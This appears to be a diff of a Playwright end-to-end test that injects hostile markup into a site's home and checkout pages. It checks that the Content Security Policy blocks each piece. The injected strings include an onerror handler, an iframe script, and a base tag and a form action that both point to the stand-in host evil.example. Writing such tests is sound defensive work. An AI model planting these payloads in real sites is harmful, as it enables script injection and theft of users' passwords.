@@ -16,13 +16,16 @@ const INJECTED = [
   `<img src="data:," alt="" onerror="window.ranBecauseOf = 'an event handler'">`,
   `<iframe srcdoc="<script>parent.ranBecauseOf = 'a frame'</script>"></iframe>`,
   `<base href="https://evil.example/">`,
+  `<form action="https://evil.example/"><button>Win a prize</button></form>`,
 ].join("")
 
 test.describe("with markup injected", () => {
   test.use({ failsOnConsoleErrors: false })
 
   for (const path of ["/", "checkout"]) {
-    test(`what is injected into ${path} does not run`, async ({ page }) => {
+    test(`what is injected into ${path} does not run, and carries no password to another site`, async ({
+      page,
+    }) => {
       const target = path === "checkout" ? await openOrder(await signInToNewAccount(page)) : path
       await recordPolicyViolations(page)
       await page.route(`**${target}`, async (route) => {
@@ -33,23 +36,11 @@ test.describe("with markup injected", () => {
         })
       })
       await page.goto(target)
-      const expected = ["base-uri", "script-src-attr", "script-src-elem"]
+      // Not `click`, which would wait for the navigation that never comes.
+      await page.getByRole("button", { name: "Win a prize" }).dispatchEvent("click")
+      const expected = ["base-uri", "form-action", "script-src-attr", "script-src-elem"]
       await expect.poll(() => policyViolations(page)).toEqual(expect.arrayContaining(expected))
       expect(await page.evaluate(() => window.ranBecauseOf)).toBeUndefined()
     })
   }
-
-  test("a form injected into a page can't carry a password to another site", async ({ page }) => {
-    await recordPolicyViolations(page)
-    await page.route("**/contact", async (route) => {
-      const response = await route.fetch()
-      const form = `<form action="https://evil.example/"><button>Win a prize</button></form>`
-      await route.fulfill({ response, body: (await response.text()).replace("<body>", `<body>${form}`) })
-    })
-    await page.goto("/contact")
-    // Not `click`, which would wait for the navigation that never comes.
-    await page.getByRole("button", { name: "Win a prize" }).dispatchEvent("click")
-    await expect.poll(() => policyViolations(page)).toEqual(["form-action"])
-    expect(new URL(page.url()).pathname).toBe("/contact")
-  })
 })
